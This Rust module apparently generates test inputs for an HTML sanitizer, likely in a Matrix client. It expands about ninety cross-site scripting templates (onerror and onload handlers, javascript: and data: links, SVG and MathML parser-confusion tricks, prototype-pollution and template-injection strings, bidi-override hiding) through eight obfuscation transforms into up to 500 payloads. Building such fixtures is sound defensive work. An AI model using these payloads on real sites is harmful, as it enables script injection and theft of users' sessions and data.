//! What a hostile sender may write in place of words: HTML, scripts and links that run or fetch
//! something in a page that does not guard itself.

use std::collections::HashSet;

/// How many there are.
pub(crate) const COUNT: usize = 500;

/// In place of what runs.
const RUN: &str = "{run}";

/// In place of what is fetched.
const URL: &str = "{url}";

/// Each of another kind.
const BASES: &[&str] = &[
    // Elements that load something, and say when it failed or came.
    r#"<img src=x onerror={run}>"#,
    r#"<img src="{url}" onload="{run}">"#,
    r#"<img srcset="{url} 1x" onerror="{run}">"#,
    r#"<image src=x onerror="{run}">"#,
    r#"<picture><source srcset="{url}"><img onerror="{run}" src=x></picture>"#,
    r#"<video src=x onerror="{run}"></video>"#,
    r#"<video poster="{url}"><source src=x onerror="{run}"></video>"#,
    r#"<audio src=x onerror="{run}"></audio>"#,
    r#"<input type=image src=x onerror="{run}">"#,
    r#"<object data=x onerror="{run}"></object>"#,
    r#"<object data="{url}"></object>"#,
    r#"<embed src="{url}">"#,
    r#"<iframe src="{url}" onload="{run}"></iframe>"#,
    r#"<iframe srcdoc="<img src=x onerror={run}>"></iframe>"#,
    r#"<iframe src="javascript:{run}"></iframe>"#,
    r#"<frameset onload="{run}"><frame src="{url}"></frameset>"#,
    r#"<body onload="{run}">"#,
    r#"<link rel=stylesheet href="{url}" onerror="{run}">"#,
    r#"<link rel=prefetch href="{url}">"#,
    r#"<meta http-equiv=refresh content="0;url={url}">"#,
    r#"<base href="{url}">"#,
    r#"<table background="{url}"><td>x</td></table>"#,
    // Styles that fetch.
    r#"<style>@import url("{url}");</style>"#,
    r#"<style onload="{run}"></style>"#,
    r#"<p style="background:url({url})">x</p>"#,
    r#"<font color=red style="list-style:url({url})">x</font>"#,
    r#"<span data-mx-color="red;background:url({url})">x</span>"#,
    // Elements that act by themselves, or once they are touched.
    r#"<input autofocus onfocus="{run}">"#,
    r#"<textarea autofocus onfocus="{run}"></textarea>"#,
    r#"<select autofocus onfocus="{run}"></select>"#,
    r#"<a id=x tabindex=1 autofocus onfocus="{run}">x</a>"#,
    r#"<details open ontoggle="{run}"><summary>x</summary></details>"#,
    r#"<marquee onstart="{run}">x</marquee>"#,
    r#"<p onmouseover="{run}" onclick="{run}">x</p>"#,
    r#"<p style="animation:x 1s" onanimationstart="{run}">x</p>"#,
    r#"<form><button formaction="javascript:{run}">x</button></form>"#,
    r#"<form action="{url}"><input name=a autofocus></form>"#,
    // Scripts.
    r#"<script>{run}</script>"#,
    r#"<script src="{url}"></script>"#,
    r#"<script type=module>{run}</script>"#,
    r#"<scr<script>ipt>{run}</scr</script>ipt>"#,
    r#"<script x>{run}</script x>"#,
    r#"</script><script>{run}</script>"#,
    // SVG and MathML.
    r#"<svg onload="{run}">"#,
    r#"<svg><script>{run}</script></svg>"#,
    r#"<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>"#,
    r#"<svg><image href=x onerror="{run}"/></svg>"#,
    r##"<svg><a href="javascript:{run}"><text y=20>x</text></a></svg>"##,
    r#"<svg><use href="data:image/svg+xml,<svg id='x' onload='{run}'/>#x"/></svg>"#,
    r#"<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>"#,
    r#"<math><mtext><img src=x onerror="{run}"></mtext></math>"#,
    r#"<math href="javascript:{run}">x</math>"#,
    // What one parser reads otherwise than the next.
    r#"<noscript><p title="</noscript><img src=x onerror={run}>">"#,
    r#"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={run} src=x>">"#,
    r#"<svg></p><style><a id="</style><img src=x onerror={run}>">"#,
    r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">"#,
    r#"<title><img src=x onerror={run}></title>"#,
    r#"<textarea></textarea><img src=x onerror={run}>"#,
    r#"<xmp><p title="</xmp><img src=x onerror={run}>">"#,
    r#"<template><img src=x onerror={run}></template>"#,
    r#"<!--><img src=x onerror={run}>-->"#,
    r#"<![CDATA[><img src=x onerror={run}>]]>"#,
    r#"<mx-reply><img src=x onerror={run}></mx-reply>"#,
    r#"<img src=x onerror={run}//"#,
    r#"<<img src=x onerror={run}>"#,
    r#""><img src=x onerror={run}>"#,
    r#"'><img src=x onerror={run}>"#,
    // Links.
    r#"<a href="javascript:{run}">x</a>"#,
    r#"<a href="java&#9;script:{run}">x</a>"#,
    r#"<a href=" &#1;javascript:{run}">x</a>"#,
    r#"<a href="data:text/html,<script>{run}</script>">x</a>"#,
    r#"<a href="vbscript:{run}">x</a>"#,
    r#"<a href="blob:{url}">x</a>"#,
    r#"<a href="{url}" ping="{url}">x</a>"#,
    r#"<img src="mxc://127.0.0.1/{run}" onerror="{run}">"#,
    r#"<img src="{url}">"#,
    "[x](javascript:{run})",
    "[x]({url})",
    "![x]({url})",
    "<javascript:{run}>",
    "{url}",
    "javascript:{run}",
    // Templates and objects.
    "{{constructor.constructor('{run}')()}}",
    "${{run}}",
    "{ $name } <% {run} %>",
    "__proto__[innerHTML]=<img src=x onerror={run}>",
    r#"{"__proto__":{"innerHTML":"<img src=x onerror={run}>"}}"#,
    // Text that hides what comes after, or turns it round.
    "\u{202e}<img src=x onerror={run}>\u{202c}",
    "\u{200b}<img src=x onerror={run}>",
    "x.png\u{202e}<img src=x onerror={run}>",
];

/// The ways in which each may be disguised.
const DISGUISES: &[fn(&str) -> String] = &[
    ToOwned::to_owned,
    |payload| {
        payload
            .replace("onerror", "OnErRoR")
            .replace("<img", "<ImG")
    },
    |payload| payload.replace(' ', "\n\t"),
    |payload| payload.replace(' ', "/"),
    |payload| format!("<b><i>{payload}</i></b>"),
    |payload| format!("\">{payload}<p title=\""),
    |payload| format!("Bonjour {payload}"),
    |payload| format!("<div dir=rtl>{payload}</div>"),
];

/// All of them, no two alike: `run` is what they would run, `url` what they would fetch.
pub(crate) fn payloads(run: &str, url: &str) -> Vec<String> {
    let mut seen = HashSet::new();
    let disguised = DISGUISES
        .iter()
        .flat_map(|disguise| BASES.iter().map(|base| disguise(base)));
    disguised
        .map(|payload| payload.replace(RUN, run).replace(URL, url))
        .filter(|payload| seen.insert(payload.clone()))
        .take(COUNT)
        .collect()
}
